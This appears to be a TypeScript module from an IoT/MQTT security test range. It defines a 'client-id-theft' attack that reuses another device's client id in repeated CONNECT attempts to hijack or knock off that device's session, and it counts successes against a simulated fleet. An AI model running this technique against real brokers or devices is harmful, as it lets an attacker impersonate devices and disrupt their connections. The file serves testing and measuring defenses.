import { SPARE } from '../fleet/devices.ts'
import type { Attack } from './attack.ts'
import { connect, type Version } from './packets.ts'

const ATTEMPTS = 4

/** Uses its own valid certificate with another device's client id. Effect: times accepted as that device, and times that its session ended. */
export const clientIdTheft: Attack = {
  name: 'client-id-theft',
  technique: 'T0859',
  title: "Take over another device's session by its client id",
  expected: 'floor',
  alone: false,
  seconds: () => 4,
  async run(range) {
    await range.proveAccess()
    const victim = range.fleet.devices.find(({ name }) => name === SPARE)
    if (!victim?.connected) throw new Error(`${SPARE} is not connected, so nothing could be stolen`)
    const before = victim.dropped
    let accepted = 0
    for (let i = 0; i < ATTEMPTS; i += 1) {
      const version: Version = i % 2 === 0 ? 4 : 5
      const session = await range.dial().catch(() => null)
      if ((await session?.login(connect({ version, clientId: SPARE }))) === 0) accepted += 1
      session?.destroy()
      await range.sleep(300)
    }
    const kicked = victim.dropped - before
    await range.until(() => victim.connected, 5000)
    const detail = `accepted as ${SPARE} ${accepted} times of ${ATTEMPTS}; its session ended ${kicked} times`
    return { attempts: ATTEMPTS, effect: accepted + kicked, detail }
  },
}
